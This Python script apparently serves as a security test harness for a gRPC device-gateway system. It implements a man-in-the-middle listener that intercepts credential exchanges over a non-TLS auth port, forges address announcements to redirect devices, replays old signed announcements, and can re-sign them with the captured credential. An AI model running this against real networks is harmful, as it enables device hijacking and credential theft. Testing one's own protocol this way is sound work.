"""Somebody between a device and the gateway who reads and changes what an auth listener without TLS answers.

`impostor.py HOST GATEWAY forge|repeat` takes the gateway's place at HOST, on the standard ports: `forge` changes the
addresses of announcements, `repeat` answers with the first announcement instead of later ones.
"""

import sys
import tempfile
import time
from collections.abc import Callable
from concurrent import futures
from pathlib import Path

import grpc
from cryptography.hazmat.primitives import hashes, hmac
from cryptography.hazmat.primitives.kdf.hkdf import HKDF

#: The listeners in an announcement, and their standard ports.
PORTS = {"auth": 50051, "gateway": 50053, "device-init": 50057}


class Impostor(grpc.GenericRpcHandler):
    """An auth listener that passes on every call to `channel`, and each answer of ExchangeCredential through `change`."""

    def __init__(self, channel: grpc.Channel, stubs, address: str = "127.0.0.1:0"):
        self.auth, self.channel = stubs.auth, channel
        self.change: Callable = lambda reply: reply
        #: Whether the answer to a call with this method's name and this credential is lost.
        self.fails: Callable[[str, str], bool] = lambda method, credential: False
        self.server = grpc.server(futures.ThreadPoolExecutor(4))
        self.server.add_generic_rpc_handlers((self,))
        port = self.server.add_insecure_port(address)
        self.server.start()
        self.address = f"{address.rsplit(':', 1)[0]}:{port}"

    def service(self, details):
        method = details.method.rsplit("/", 1)[1]

        def respond(request: bytes, context: grpc.ServicerContext) -> bytes:
            try:
                reply = self.channel.unary_unary(details.method)(request, timeout=20)
            except grpc.RpcError as error:
                context.set_trailing_metadata(
                    [pair for pair in error.trailing_metadata() if pair[0] == "grpc-status-details-bin"]
                )
                context.abort(error.code(), error.details())
            # Both methods of the service with a credential have it as their first field.
            if self.fails(method, self.auth.ExchangeCredentialRequest.FromString(request).credential):
                context.abort(grpc.StatusCode.UNKNOWN, "the answer is lost")
            return self._exchanged(request, reply) if method == "ExchangeCredential" else reply

        return grpc.unary_unary_rpc_method_handler(respond)

    def _exchanged(self, request: bytes, reply: bytes) -> bytes:
        self.credential = self.auth.ExchangeCredentialRequest.FromString(request).credential
        return self.change(self.auth.ExchangeCredentialResponse.FromString(reply)).SerializeToString()

    def signed(self, reply, announcement):
        """Signs as anybody can who has the device's key."""
        key = HKDF(hashes.SHA256(), 32, salt=None, info=b"data-gateway address announcement 1").derive(
            self.credential.encode()
        )
        mac = hmac.HMAC(key, hashes.SHA256())
        reply.address_announcement = announcement.SerializeToString()
        mac.update(reply.address_announcement)
        reply.address_announcement_mac = mac.finalize()
        return reply


def announcement(stubs, addresses: dict[str, str], serial: int, tls=False, ends_in: int = 3600, authority: str = ""):
    """Returns an announcement of `HOST:PORT` for each listener."""
    result = stubs.auth.AddressAnnouncement(serial=serial, ends_at_unix=int(time.time()) + ends_in, authority=authority)
    for name in PORTS:
        host, port = addresses[name].rsplit(":", 1)
        endpoint = getattr(result, name.replace("-", "_"))
        endpoint.host, endpoint.port, endpoint.tls = host, int(port), tls
    return result


def forger(stubs, host: str) -> Callable:
    """Returns a change that leads to `host`, without the device's key."""

    def forge(reply):
        if reply.address_announcement:
            own = {name: f"{host}:{port}" for name, port in PORTS.items()}
            reply.address_announcement = announcement(stubs, own, 9).SerializeToString()
        return reply

    return forge


def repeater() -> Callable:
    """Returns a change that keeps the first announcement, and answers with it instead of each later one."""
    first = []

    def repeat(reply):
        if reply.address_announcement:
            if not first:
                first.extend((reply.address_announcement, reply.address_announcement_mac))
            reply.address_announcement, reply.address_announcement_mac = first
        return reply

    return repeat


def main(host: str, gateway: str, way: str) -> None:
    from relay import Relay
    from stubs import PROTOS, load

    with tempfile.TemporaryDirectory() as folder:
        stubs = load(PROTOS, Path(folder))
    channel = grpc.insecure_channel(f"{gateway}:{PORTS['auth']}")
    impostor = Impostor(channel, stubs, f"{host}:{PORTS['auth']}")
    impostor.change = {"forge": forger(stubs, host), "repeat": repeater()}[way]
    for name in ("gateway", "device-init"):
        Relay(f"{gateway}:{PORTS[name]}", host, PORTS[name])
    print("ready", flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main(*sys.argv[1:])
